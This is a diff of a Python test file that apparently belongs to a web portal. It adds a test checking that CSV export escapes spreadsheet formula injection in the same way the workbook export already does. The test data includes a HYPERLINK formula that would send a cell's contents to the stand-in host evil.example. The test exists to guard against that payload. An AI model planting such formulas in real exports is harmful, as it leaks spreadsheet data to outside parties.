@@ -4,7 +4,7 @@ from io import BytesIO
 
 from openpyxl import Workbook, load_workbook
 
-from tslp_portal.excel import cell_set, row_cells, workbook_bytes, xlsx_response
+from tslp_portal.excel import cell_set, csv_text, row_cells, workbook_bytes, xlsx_response
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
@@ -84,3 +84,10 @@ def test_the_program_list_workbook_writes_a_formula_title_as_text(db, company):
     sheet = reread(content)
     titles = [c for c in sheet["A"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
     assert [(c.data_type, c.quotePrefix) for c in titles] == [("s", True)]
+
+
+def test_a_csv_cell_gets_the_same_guard_as_a_workbook_cell():
+    for text in HOSTILE:
+        assert csv_text(text) == "'" + text
+    assert csv_text("Desa Bahaur") == "Desa Bahaur"
+    assert (csv_text(None), csv_text(-3), csv_text(12.5)) == ("", "-3", "12.5")
